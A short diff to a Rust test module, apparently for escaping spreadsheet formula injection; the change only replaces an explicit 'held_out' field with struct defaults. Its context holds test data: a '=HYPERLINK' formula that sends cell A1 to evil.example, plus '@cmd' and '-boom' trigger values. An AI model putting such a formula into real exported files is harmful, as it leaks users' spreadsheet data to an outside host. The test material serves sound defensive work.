@@ -498,7 +498,7 @@ mod tests {
             inputs: BTreeMap::from([("q".into(), "@cmd".into())]),
             expected: Some("=1".into()),
             note: String::new(),
-            held_out: false,
+            ..TestCase::default()
         }];
         let mut r = result(0, 0, "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")", false);
         r.error = Some("-boom".into());
